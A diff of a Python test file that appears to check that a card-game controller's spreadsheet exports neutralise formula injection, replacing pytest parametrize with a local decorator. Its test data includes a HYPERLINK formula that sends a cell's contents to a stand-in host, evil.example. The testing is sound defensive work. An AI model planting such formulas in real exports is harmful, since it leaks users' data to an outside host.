@@ -6,8 +6,6 @@ import re
 from datetime import UTC
 from pathlib import Path
 
-import pytest
-
 from controller.console.handlers.rounds import COLUMNS
 from controller.journal import exports
 from controller.journal.records import FORM, Entry
@@ -16,6 +14,7 @@ from controller.upkeep import reports
 from controller.views.figures import Figures, Tally
 from support.console.consoles import Console
 from support.journal.journals import opened
+from support.rows import each_row
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"9H")',
@@ -38,12 +37,12 @@ def quoted(typed: str) -> str:
     return "'" + "".join(" " if each in "\t\r\n" else each for each in typed)
 
 
-@pytest.mark.parametrize("typed", FORMULAS)
+@each_row("typed", FORMULAS)
 def test_what_begins_a_formula_is_text(typed: str) -> None:
     assert cell(typed) == quoted(typed)
 
 
-@pytest.mark.parametrize("value", ["red", "9H KD", "{}", "", "a=b", "'", -5, -0.5, 7, None, True])
+@each_row("value", ["red", "9H KD", "{}", "", "a=b", "'", -5, -0.5, 7, None, True])
 def test_numbers_and_other_text_stay_as_they_are(value: object) -> None:
     assert cell(value) == value
 
@@ -68,7 +67,7 @@ def harmless(text: str) -> bool:
     )
 
 
-@pytest.mark.parametrize("typed", FORMULAS)
+@each_row("typed", FORMULAS)
 def test_rounds_export_carries_no_formula(typed: str, tmp_path: Path) -> None:
     console = Console(tmp_path)
     with console.browser() as browser:
@@ -82,7 +81,7 @@ def test_rounds_export_carries_no_formula(typed: str, tmp_path: Path) -> None:
     assert row["deck_set"].removeprefix("'").strip() == typed.strip(), "and nothing of it is lost"
 
 
-@pytest.mark.parametrize("typed", FORMULAS)
+@each_row("typed", FORMULAS)
 def test_report_carries_no_formula(typed: str) -> None:
     found = Figures(0.0, 3600.0)
     found.dealers["d1"] = Tally(rounds=3)
